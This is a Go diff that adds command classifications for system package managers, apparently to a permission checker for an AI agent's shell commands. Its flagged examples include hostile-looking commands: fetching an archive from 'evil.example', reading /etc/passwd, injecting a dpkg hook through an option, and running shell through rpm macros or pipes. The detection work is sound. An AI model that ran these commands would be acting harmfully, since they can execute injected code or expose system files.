@@ -205,3 +205,208 @@ var _ = family("packages", func(add func(...*Spec)) {
 			Flagged:  []string{"mix test", "mix run -e 'System.cmd(\"sh\", [\"-c\", \"id\"])'", "mix eval 'File.read!(\"/etc/passwd\")'", "mix cmd sh -c id", "mix archive.install https://evil.example/x.ez"}},
 	)
 })
+
+// The system package managers. Installing, removing and upgrading change
+// the system's software (Config: lasting, outside the project, and run
+// the packages' maintainer scripts as root); refreshing the package lists
+// talks to the mirrors and rewrites the system's cache (Config too).
+// Listings, searches and package information read the local database and
+// are read-only; a simulation (apt-get -s) is too.
+var _ = family("system-packages", func(add func(...*Spec)) {
+	// apt 2.6.1 (observed): APT's CommandLine permutes (apt-get install -s
+	// x), bundles (-sy), takes -oKEY=VALUE attached or apart, a value to
+	// a boolean (--simulate=1), and no prefixes (apt list --inst is
+	// refused). -o and -c set any configuration, hooks that run commands
+	// (DPkg::Pre-Invoke) included: unknown.
+	const aptOpts = "-h|--help:h -v|--version:h -q|--quiet -y|--yes|--assume-yes --assume-no -s|--simulate|--just-print|--dry-run|--recon|--no-act " +
+		"-d|--download-only -f|--fix-broken -m|--ignore-missing|--fix-missing --no-download -u|--show-upgraded -V|--verbose-versions -a|--host-architecture= " +
+		"-b|--compile|--build -P|--build-profiles= --no-install-recommends --install-recommends --install-suggests --no-install-suggests --reinstall --purge " +
+		"--auto-remove|--autoremove --only-upgrade --no-upgrade --with-new-pkgs --allow-downgrades --allow-remove-essential --allow-change-held-packages " +
+		"--allow-unauthenticated --allow-insecure-repositories --allow-releaseinfo-change -t|--target-release|--default-release= --trivial-only --no-remove " +
+		"--force-yes --print-uris --list-cleanup --no-list-cleanup --mark-auto --arch-only --indep-only --ignore-hold -c|--config-file=u -o|--option=u " +
+		"--installed --upgradable --manual-installed -a|--all-versions --full --names-only --recurse --no-pre-depends --no-depends --no-recommends --no-suggests " +
+		"--no-conflicts --no-breaks --no-replaces --no-enhances --implicit -n|--names-only"
+	aptDoes := func(e Effect) *Spec {
+		return &Spec{Effect: e, Permute: true, Operands: "-*", Options: aptOpts, ReadWith: "--simulate"}
+	}
+	aptReads := &Spec{Permute: true, Operands: "-*", Options: aptOpts}
+	aptSubs := func(own ...any) map[string]*Spec {
+		m := subs("install", aptDoes(Config), "reinstall", aptDoes(Config), "remove", aptDoes(Config), "purge", aptDoes(Config), "autoremove", aptDoes(Config),
+			"autopurge", aptDoes(Config), "upgrade", aptDoes(Config), "full-upgrade", aptDoes(Config), "dist-upgrade", aptDoes(Config), "update", aptDoes(Config),
+			"satisfy", aptDoes(Config), "build-dep", aptDoes(Config), "clean", aptDoes(Config), "autoclean", aptDoes(Config), "auto-clean", aptDoes(Config),
+			"download", aptDoes(Network), "source", aptDoes(Network), "changelog", aptDoes(Network), "check", aptReads, "help", aptReads, "moo", aptReads)
+		for k, v := range subs(own...) {
+			m[k] = v
+		}
+		return m
+	}
+	// dnf 4 (argparse: options anywhere, unique prefixes of long options,
+	// short flags bundle); yum is dnf on every current system.
+	const dnfOpts = "-h|--help:h --version:h -y|--assumeyes --assumeno -q|--quiet -v|--verbose -C|--cacheonly --refresh -c|--config=u --setopt=u --installroot= " +
+		"--releasever= --enablerepo= --disablerepo= --repo|--repoid= -x|--exclude= --disableexcludes= --nogpgcheck --noplugins --enableplugin= --disableplugin= " +
+		"--best --nobest --allowerasing --noautoremove --skip-broken --downloadonly --downloaddir|--destdir= --nodocs --color= --comment= --showduplicates " +
+		"--obsoletes --security --bugfix --enhancement --newpackage --advisory|--advisories= --cve|--cves= --bz|--bzs= --sec-severity|--secseverity= " +
+		"--forcearch= -4 -6 -b -d|--debuglevel= -e|--errorlevel= --rpmverbosity= -R|--randomwait= --installed --available --extras --updates --upgrades " +
+		"--autoremove --recent --all --disabled --enabled"
+	dnfDoes := func(e Effect) *Spec {
+		return &Spec{Effect: e, Permute: true, Abbrev: true, Loose: true, Operands: "-*", Options: dnfOpts}
+	}
+	dnfReads := &Spec{Permute: true, Abbrev: true, Operands: "-*", Options: dnfOpts}
+	dnf := subs("install", dnfDoes(Config), "in", dnfDoes(Config), "reinstall", dnfDoes(Config), "remove", dnfDoes(Config), "rm", dnfDoes(Config),
+		"erase", dnfDoes(Config), "upgrade", dnfDoes(Config), "update", dnfDoes(Config), "up", dnfDoes(Config), "downgrade", dnfDoes(Config),
+		"distro-sync", dnfDoes(Config), "autoremove", dnfDoes(Config), "clean", dnfDoes(Config), "makecache", dnfDoes(Config), "mark", dnfDoes(Config),
+		"swap", dnfDoes(Config), "group", dnfDoes(Config), "module", dnfDoes(Config), "history", dnfDoes(Config), "config-manager", dnfDoes(Config),
+		"copr", dnfDoes(Config), "builddep", dnfDoes(Config), "versionlock", dnfDoes(Config), "shell", dnfDoes(Exec), "download", dnfDoes(Network),
+		"list", dnfReads, "ls", dnfReads, "info", dnfReads, "if", dnfReads, "search", dnfReads, "se", dnfReads, "provides", dnfReads, "whatprovides", dnfReads,
+		"wp", dnfReads, "repolist", dnfReads, "repoinfo", dnfReads, "repoquery", dnfReads, "rq", dnfReads, "check-update", dnfReads, "check-upgrade", dnfReads,
+		"updateinfo", dnfReads, "deplist", dnfReads, "help", dnfReads)
+	// zypper (getopt_long: permuted, unique prefixes): global options
+	// before the command, the command's own after it.
+	zypperDoes := func(e Effect) *Spec {
+		return &Spec{Effect: e, Permute: true, Abbrev: true, Loose: true, Operands: "-*", Options: "-h|--help:h"}
+	}
+	zypperReads := &Spec{Permute: true, Abbrev: true, Operands: "-*", Options: "-h|--help:h -r|--repo= -i|--installed-only -u|--not-installed-only|--uninstalled-only " +
+		"-s|--details -t|--type= -x|--match-exact --match-substrings --match-words --provides --requires --recommends --supplements --conflicts --obsoletes --suggests " +
+		"-d|--search-descriptions -C|--case-sensitive --sort-by-name --sort-by-repo -a|--all -E|--show-enabled-only -U|--sort-by-uri -p|--sort-by-priority -N|--sort-by-name"}
+	zypper := subs("search", zypperReads, "se", zypperReads, "info", zypperReads, "if", zypperReads, "list-updates", zypperReads, "lu", zypperReads,
+		"list-patches", zypperReads, "lp", zypperReads, "packages", zypperReads, "pa", zypperReads, "patterns", zypperReads, "pt", zypperReads,
+		"products", zypperReads, "pd", zypperReads, "repos", zypperReads, "lr", zypperReads, "services", zypperReads, "ls", zypperReads, "locks", zypperReads,
+		"ll", zypperReads, "patch-check", zypperReads, "pchk", zypperReads, "what-provides", zypperReads, "wp", zypperReads, "search-packages", zypperReads,
+		"needs-rebooting", zypperReads, "versioncmp", zypperReads, "vcmp", zypperReads, "targetos", zypperReads, "tos", zypperReads, "licenses", zypperReads, "help", zypperReads,
+		"install", zypperDoes(Config), "in", zypperDoes(Config), "remove", zypperDoes(Config), "rm", zypperDoes(Config), "update", zypperDoes(Config), "up", zypperDoes(Config),
+		"dist-upgrade", zypperDoes(Config), "dup", zypperDoes(Config), "patch", zypperDoes(Config), "refresh", zypperDoes(Config), "ref", zypperDoes(Config),
+		"addrepo", zypperDoes(Config), "ar", zypperDoes(Config), "removerepo", zypperDoes(Config), "rr", zypperDoes(Config), "modifyrepo", zypperDoes(Config), "mr", zypperDoes(Config),
+		"clean", zypperDoes(Config), "cc", zypperDoes(Config), "addlock", zypperDoes(Config), "al", zypperDoes(Config), "removelock", zypperDoes(Config), "rl", zypperDoes(Config),
+		"source-install", zypperDoes(Config), "si", zypperDoes(Config), "verify", zypperDoes(Config), "ve", zypperDoes(Config), "install-new-recommends", zypperDoes(Config),
+		"download", zypperDoes(Network), "shell", zypperDoes(Exec), "sh", zypperDoes(Exec))
+	// apk (apk-tools 2, getopt_long): global options anywhere.
+	const apkOpts = "-h|--help:h -V|--version:h -q|--quiet -v|--verbose -i|--interactive -p|--root= -X|--repository= --allow-untrusted --arch= --cache-dir= " +
+		"--no-cache --no-network --no-progress --progress --purge --keys-dir= --repositories-file= -U|--update-cache --wait= --force-broken-world --force-overwrite " +
+		"-L|--contents -W|--who-owns -R|--depends -r|--rdepends -P|--provides -I|--install-if -w|--webpage -s|--size -d|--description -e|--installed -a|--all " +
+		"-x|--exact -o|--origin --available --upgradable --orphaned -l|--limit= -t|--virtual="
+	apkDoes := func(e Effect) *Spec {
+		return &Spec{Effect: e, Permute: true, Abbrev: true, Loose: true, Operands: "-*", Options: apkOpts}
+	}
+	apkReads := &Spec{Permute: true, Abbrev: true, Operands: "-*", Options: apkOpts}
+	// snap (go-flags): options anywhere, short flags bundle, no prefixes.
+	snapDoes := func(e Effect) *Spec {
+		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h|--help:h"}
+	}
+	snapReads := &Spec{Permute: true, Operands: "-*", Options: "-h|--help:h --all --color= --unicode= --abs-time --verbose --private --narrow --section= " +
+		"--channel= --abs-time --no-wait -n= -f --follow --global -d --document -l --list --connected --disconnected --revision= --last= --remote --verbose"}
+	// MacPorts port (Tcl): global short flags bundle and come before the
+	// action; -y is a dry run.
+	portDoes := func(e Effect) *Spec {
+		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h|--help:h"}
+	}
+	portReads := &Spec{Permute: true, Loose: false, Operands: "-*", Options: "-h|--help:h --summary --index --line --exact --glob --regex --case-sensitive --name " +
+		"--description --long_description --homepage --category --categories --maintainer --maintainers --depends --fullname --version --revision --epoch --variants " +
+		"--variant --platform --platforms --license --pretty --no-build --no-test --full --size --units= --active --inactive --requested --unrequested --leaf"}
+	// brew (Homebrew's CLI::Parser over Ruby's OptionParser); every
+	// command but the listings and the information may update Homebrew
+	// itself first.
+	brewDoes := func(e Effect) *Spec {
+		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h|--help:h"}
+	}
+	brewReads := &Spec{Permute: true, Operands: "-*", Options: "-h|--help:h -d|--debug -q|--quiet -v|--verbose --json? --installed --formula|--formulae --cask|--casks " +
+		"--eval-all --all -1 -l -r -t --versions --pinned --full-name --multiple --tree --graph --include-build --include-optional --include-test --skip-recommended " +
+		"--direct --recursive --analytics --days= --category= --github --desc --name --search --fetch-HEAD --greedy --greedy-latest --greedy-auto-updates --installed-on-request " +
+		"--installed-as-dependency --missing --union --topological --annotate --dot --HEAD --oneline -n|--max-count= --quiet --variations --compact --command= --include-aliases"}
+	brewServices := &Spec{Options: "-h|--help:h", OtherSubcommand: Config, Effect: None, Subcommands: subs("list", brewReads, "info", brewReads)}
+	add(
+		&Spec{Names: n("apt-get"), Grant: Grant{Depth: 1, ExactSubs: "install purge remove", Offers: []string{"apt-get install jq => Bash(apt-get install jq)", "apt-get check => Bash(apt-get check:*)"}},
+			Options: aptOpts, Subcommands: aptSubs("indextargets", aptReads),
+			ReadOnly: []string{"apt-get check", "apt-get -s install jq", "apt-get install -s jq", "apt-get -sy install jq", "apt-get --dry-run upgrade", "apt-get --version"},
+			Flagged: []string{"apt-get install jq", "apt-get -y install jq", "apt-get install --yes jq", "apt-get purge nginx", "apt-get update", "apt-get -o Dpkg::Pre-Invoke::=/tmp/x install jq",
+				"apt-get -oDPkg::Post-Invoke::=sh check", "apt-get frobnicate"}},
+		&Spec{Names: n("apt"), Grant: Grant{Depth: 1, ExactSubs: "install purge remove", Offers: []string{"apt list --installed => Bash(apt list:*)", "apt install jq => Bash(apt install jq)"}},
+			Options: aptOpts, Subcommands: aptSubs("list", aptReads, "search", aptReads, "show", aptReads, "showsrc", aptReads, "policy", aptReads, "depends", aptReads,
+				"rdepends", aptReads, "edit-sources", aptDoes(Exec)),
+			ReadOnly: []string{"apt list --installed", "apt list --upgradable", "apt search jq", "apt show jq", "apt policy jq", "apt depends jq", "apt -s install jq"},
+			Flagged:  []string{"apt install jq", "apt -y remove nginx", "apt full-upgrade", "apt update", "apt edit-sources", "apt list -o APT::Update::Pre-Invoke::=sh", "apt list --inst"}},
+		&Spec{Names: n("dnf", "yum"), Grant: Grant{Depth: 1, ExactSubs: "install remove erase", Offers: []string{"dnf info jq => Bash(dnf info:*)", "dnf install jq => Bash(dnf install jq)"}},
+			Options: dnfOpts, Permute: true, Abbrev: true, Subcommands: dnf,
+			ReadOnly: []string{"dnf info jq", "dnf list --installed", "dnf search jq", "yum list installed", "dnf repolist", "dnf --quiet provides /usr/bin/jq", "dnf list --installe"},
+			Flagged:  []string{"dnf install jq", "dnf -y install jq", "yum remove nginx", "dnf upgrade --refresh", "dnf shell", "dnf --setopt=x=y list", "dnf makecache"}},
+		// pacman 6 (getopt_long: permuted, unique prefixes, bundled):
+		// the operation is an option; -Q, -T and -F without -y only read.
+		&Spec{Names: n("pacman"), Grant: Grant{Exact: true, Offers: []string{"pacman -Qi jq => Bash(pacman -Qi jq)"}}, Effect: Config, Permute: true, Abbrev: true, Operands: "-*",
+			ReadWith: "--query --deptest",
+			Options: "-h|--help:h -V|--version:h -S|--sync -R|--remove -U|--upgrade -Q|--query -D|--database -T|--deptest -F|--files:c -y|--refresh:c -u|--sysupgrade " +
+				"-s|--search|--recursive -i|--info -l|--list -c|--changelog|--clean -p|--print -n|--native|--nosave -k|--check -q|--quiet -e|--explicit -d|--deps|--nodeps " +
+				"-t|--unrequired -g|--groups -o|--owns -w|--downloadonly -m|--foreign -v|--verbose --noconfirm --confirm --needed --asdeps --asexplicit --dbonly " +
+				"--noscriptlet --noprogressbar --debug --disable-download-timeout --overwrite= --ignore= --ignoregroup= --assume-installed= --print-format= -r|--root= " +
+				"-b|--dbpath= --config=u --cachedir= --hookdir= --gpgdir= --logfile=w --arch= --sysroot= --color=",
+			ReadOnly: []string{"pacman -Q", "pacman -Qi jq", "pacman -Qs jq", "pacman --query --info jq", "pacman --que -l jq", "pacman -Qkk", "pacman -T jq"},
+			Flagged:  []string{"pacman -S jq", "pacman -Syu", "pacman -R jq", "pacman -Rns jq", "pacman -U ./x.pkg.tar.zst", "pacman -Ss jq", "pacman -Qy", "pacman -Q --config /tmp/x.conf"}},
+		&Spec{Names: n("zypper"), Grant: Grant{Depth: 1, ExactSubs: "install in remove rm", Offers: []string{"zypper search jq => Bash(zypper search:*)", "zypper install jq => Bash(zypper install jq)"}},
+			Options: "-h|--help:h -V|--version:h -n|--non-interactive -q|--quiet -v|--verbose -x|--xmlout -t|--terse -s|--table-style= -i|--ignore-unknown --no-refresh " +
+				"--no-color --no-abbrev --non-interactive-include-reboot-patches --no-gpg-checks --gpg-auto-import-keys --disable-repositories --disable-system-resolvables " +
+				"-R|--root= -c|--config=u -D|--reposd-dir= -C|--cache-dir= --raw-cache-dir= --solv-cache-dir= --pkg-cache-dir= --userdata= -p|--plus-repo= --plus-content=",
+			Abbrev: true, Subcommands: zypper,
+			ReadOnly: []string{"zypper search jq", "zypper se -i jq", "zypper info jq", "zypper lr", "zypper -q lu", "zypper --non-interactive search --installed-only jq"},
+			Flagged:  []string{"zypper install jq", "zypper -n in jq", "zypper rm jq", "zypper dup", "zypper refresh", "zypper ar https://x.example/repo x", "zypper shell"}},
+		&Spec{Names: n("apk"), Grant: Grant{Depth: 1, ExactSubs: "add del", Offers: []string{"apk info jq => Bash(apk info:*)", "apk add jq => Bash(apk add jq)"}}, Options: apkOpts, Abbrev: true, Permute: true,
+			Subcommands: subs("add", apkDoes(Config), "del", apkDoes(Config), "fix", apkDoes(Config), "update", apkDoes(Config), "upgrade", apkDoes(Config), "cache", apkDoes(Config),
+				"fetch", apkDoes(Network), "index", apkDoes(Write), "info", apkReads, "list", apkReads, "search", apkReads, "dot", apkReads, "policy", apkReads, "stats", apkReads,
+				"verify", apkReads, "audit", apkReads, "version", apkReads, "manifest", apkReads),
+			ReadOnly: []string{"apk info jq", "apk info -L jq", "apk list --installed", "apk search jq", "apk -q version", "apk policy jq"},
+			Flagged:  []string{"apk add jq", "apk --no-cache add jq", "apk del jq", "apk update", "apk upgrade -U", "apk fetch jq"}},
+		&Spec{Names: n("snap"), Grant: Grant{Depth: 1, ExactSubs: "install remove", Offers: []string{"snap list => Bash(snap list:*)", "snap install jq => Bash(snap install jq)"}}, Options: "-h|--help:h --version:h",
+			Subcommands: subs("list", snapReads, "info", snapReads, "find", snapReads, "search", snapReads, "version", snapReads, "changes", snapReads, "change", snapReads,
+				"tasks", snapReads, "connections", snapReads, "interface", snapReads, "interfaces", snapReads, "services", snapReads, "logs", snapReads, "get", snapReads,
+				"known", snapReads, "aliases", snapReads, "warnings", snapReads, "help", snapReads, "model", snapReads, "whoami", snapReads, "saved", snapReads,
+				"install", snapDoes(Config), "remove", snapDoes(Config), "refresh", snapDoes(Config), "revert", snapDoes(Config), "enable", snapDoes(Config), "disable", snapDoes(Config),
+				"set", snapDoes(Config), "unset", snapDoes(Config), "connect", snapDoes(Config), "disconnect", snapDoes(Config), "alias", snapDoes(Config), "unalias", snapDoes(Config),
+				"prefer", snapDoes(Config), "login", snapDoes(Config), "logout", snapDoes(Config), "start", snapDoes(Config), "stop", snapDoes(Config), "restart", snapDoes(Config),
+				"switch", snapDoes(Config), "try", snapDoes(Config), "ack", snapDoes(Config), "okay", snapDoes(Config), "save", snapDoes(Config), "forget", snapDoes(Config),
+				"restore", snapDoes(Config), "create-user", snapDoes(Config), "remove-user", snapDoes(Config), "buy", snapDoes(Network), "download", snapDoes(Network),
+				"pack", snapDoes(Write), "run", snapDoes(Exec)),
+			ReadOnly: []string{"snap list", "snap info jq", "snap find jq", "snap version", "snap changes", "snap services", "snap list --all"},
+			Flagged:  []string{"snap install jq", "snap remove jq", "snap refresh", "snap run jq", "snap set system refresh.hold=x", "snap frobnicate"}},
+		&Spec{Names: n("port"), Grant: Grant{Depth: 1, ExactSubs: "install uninstall", Offers: []string{"port installed => Bash(port installed:*)", "port install jq => Bash(port install jq)"}},
+			Options: "-h|--help:h -b -c -d -f -k -n -o -p -q -R -s -t -u -v -y -N -D= -F=r",
+			Subcommands: subs("list", portReads, "search", portReads, "info", portReads, "installed", portReads, "outdated", portReads, "contents", portReads, "deps", portReads,
+				"rdeps", portReads, "dependents", portReads, "rdependents", portReads, "provides", portReads, "variants", portReads, "echo", portReads, "location", portReads,
+				"dir", portReads, "url", portReads, "file", portReads, "work", portReads, "cat", portReads, "notes", portReads, "usage", portReads, "version", portReads,
+				"platform", portReads, "help", portReads, "log", portReads, "logfile", portReads,
+				"install", portDoes(Config), "uninstall", portDoes(Config), "upgrade", portDoes(Config), "selfupdate", portDoes(Config), "sync", portDoes(Config),
+				"activate", portDoes(Config), "deactivate", portDoes(Config), "clean", portDoes(Config), "select", portDoes(Config), "load", portDoes(Config),
+				"unload", portDoes(Config), "reload", portDoes(Config), "setrequested", portDoes(Config), "unsetrequested", portDoes(Config), "rev-upgrade", portDoes(Config),
+				"reclaim", portDoes(Config), "migrate", portDoes(Config), "edit", portDoes(Exec), "gohome", portDoes(Exec), "fetch", portDoes(Network)),
+			OtherSubcommand: Unknown,
+			ReadOnly:        []string{"port installed", "port search jq", "port info jq", "port -q installed", "port contents jq", "port outdated"},
+			Flagged:         []string{"port install jq", "port -N install jq", "port uninstall jq", "port selfupdate", "port load nginx", "port build jq"}},
+		// rpm 4.18 (popt: bundled, permuted, no prefixes): the mode is an
+		// option; -q (-qa, -qi, -ql), -V and -K read, the rest install,
+		// erase or rebuild the database; -i is --install but --info
+		// under -q. --eval expands macros, which run shell commands
+		// (%(cmd)), and --pipe hands the output to a command.
+		&Spec{Names: n("rpm"), Grant: Grant{Exact: true, Offers: []string{"rpm -qa => Bash(rpm -qa)"}}, Effect: Config, Permute: true, Operands: "-*",
+			ReadWith: "--query --verify --checksig --showrc --querytags",
+			Options: "--help:h --version:h --usage:h -q|--query -V|--verify -K|--checksig --showrc --querytags -i|--install|--info -U|--upgrade -F|--freshen -e|--erase " +
+				"--import:c --rebuilddb:c --initdb:c --setperms:c --setugids:c --restore:c -E|--eval=x --pipe=x -a|--all -l|--list -f|--file -p|--package -c|--configfiles " +
+				"-d|--docfiles -L|--licensefiles -R|--requires --provides --conflicts --obsoletes --recommends --suggests --supplements --enhances --whatprovides --whatrequires " +
+				"--whatrecommends --whatsuggests --whatconflicts --whatobsoletes --scripts --triggers --changelog --changes --dump -s|--state --last --filesbypkg --fileclass " +
+				"--filecolor --fileprovide --filerequire --filecaps --xml --qf|--queryformat= -g|--group -v|--verbose -h|--hash --percent --test --nodeps --force --replacepkgs " +
+				"--replacefiles --oldpackage --excludedocs --nodigest --nosignature --noscripts --notriggers --justdb --allfiles --ignorearch --ignoreos --ignoresize " +
+				"--prefix= --relocate= --excludepath= --root= --dbpath= --define|-D=u --undefine= --macros=u --rcfile=u --quiet",
+			ReadOnly: []string{"rpm -qa", "rpm -qi jq", "rpm -ql jq", "rpm -q --queryformat '%{VERSION}' jq", "rpm -qf /usr/bin/jq", "rpm -Va", "rpm -K x.rpm", "rpm --version"},
+			Flagged: []string{"rpm -i x.rpm", "rpm -ivh x.rpm", "rpm -Uvh x.rpm", "rpm -e jq", "rpm --erase jq", "rpm --import key.asc", "rpm --eval '%(id)'", "rpm -qa --pipe sh",
+				"rpm -q --define '_dbpath /tmp' jq", "rpm --rebuilddb"}},
+		&Spec{Names: n("brew"), Grant: Grant{Depth: 1, ExactSubs: "install uninstall", Offers: []string{"brew list => Bash(brew list:*)", "brew install jq => Bash(brew install jq)"}},
+			Options: "-h|--help:h -v|--version:h --prefix --cellar --repository|--repo --cache --env --caskroom", OtherSubcommand: Unknown,
+			Subcommands: subs("info", brewReads, "abv", brewReads, "list", brewReads, "ls", brewReads, "search", brewReads, "deps", brewReads, "uses", brewReads,
+				"leaves", brewReads, "desc", brewReads, "config", brewReads, "doctor", brewReads, "dr", brewReads, "shellenv", brewReads,
+				"commands", brewReads, "help", brewReads, "options", brewReads, "log", brewReads, "cat", brewReads, "formulae", brewReads, "casks", brewReads,
+				"missing", brewReads, "tap-info", brewReads, "services", brewServices,
+				"install", brewDoes(Config), "reinstall", brewDoes(Config), "uninstall", brewDoes(Config), "remove", brewDoes(Config), "rm", brewDoes(Config),
+				"upgrade", brewDoes(Config), "update", brewDoes(Config), "outdated", brewDoes(Network), "tap", brewDoes(Config), "untap", brewDoes(Config),
+				"link", brewDoes(Config), "ln", brewDoes(Config), "unlink", brewDoes(Config), "pin", brewDoes(Config), "unpin", brewDoes(Config), "cleanup", brewDoes(Config),
+				"autoremove", brewDoes(Config), "analytics", brewDoes(Config), "developer", brewDoes(Config), "fetch", brewDoes(Network), "home", brewDoes(Exec),
+				"edit", brewDoes(Exec), "sh", brewDoes(Exec), "ruby", brewDoes(Exec), "irb", brewDoes(Exec), "bundle", brewDoes(RunsProject), "create", brewDoes(Write)),
+			ReadOnly: []string{"brew info jq", "brew list", "brew list --versions", "brew search jq", "brew deps --tree jq", "brew config", "brew --version", "brew services list", "brew leaves"},
+			Flagged: []string{"brew install jq", "brew uninstall jq", "brew upgrade", "brew update", "brew tap evil/tap", "brew services start nginx", "brew sh", "brew bundle",
+				"brew frobnicate"}},
+	)
+})
